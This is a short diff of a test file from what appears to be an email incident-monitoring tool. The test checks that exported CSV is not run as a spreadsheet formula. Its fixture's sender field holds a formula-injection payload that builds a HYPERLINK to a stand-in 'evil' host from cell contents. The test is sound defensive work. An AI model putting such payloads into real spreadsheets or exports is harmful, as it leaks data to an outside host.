@@ -86,7 +86,7 @@ describe('what people without access to the message see', () => {
   it('writes CSV that a spreadsheet will not run as a formula', () => {
     const inc = {
       reference: 'HM-2026-000001', messageId: 'm', detectedAt: new Date('2026-07-01T09:30:00Z'), action: 'quarantine', kind: 'held', status: 'open',
-      sender: '=HYPERLINK("http://evil/"&A1)@school.example', recipients: ['a@x.example', 'b@x.example'], rules: ['uk-identifier-in-message'], severity: 4,
+      sender: '=HYPERLINK("http://evil/"&A1)@school.example', recipients: ['a@x.example', 'b@x.example'], rules: ['identifier-in-message'], severity: 4,
       findings: [{ detector: 'd', where: 'body', evidence: '+44 ****', reason: 'r' }], potentialBreach: false, breachMarkedAt: null, icoDeadline: null, escalatedAt: null,
       heldBy: 'h', updatedAt: new Date(),
     } as Incident;
